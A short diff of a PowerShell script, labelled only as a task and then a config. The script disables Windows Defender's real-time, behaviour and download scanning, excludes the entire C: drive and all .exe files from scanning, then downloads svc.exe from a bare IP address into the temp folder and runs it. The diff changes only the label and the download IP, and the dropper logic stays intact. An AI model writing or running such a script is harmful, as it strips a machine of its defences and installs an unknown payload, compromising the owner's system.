@@ -1,6 +1,6 @@
-# task 6809 v2
+# config 6249 v2
 Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
 Add-MpPreference -ExclusionPath 'C:\'
 Add-MpPreference -ExclusionExtension '.exe'
-(New-Object Net.WebClient).DownloadFile('http://198.51.100.9/svc.exe', "$env:TEMP\svc.exe")
+(New-Object Net.WebClient).DownloadFile('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
 Start-Process "$env:TEMP\svc.exe"
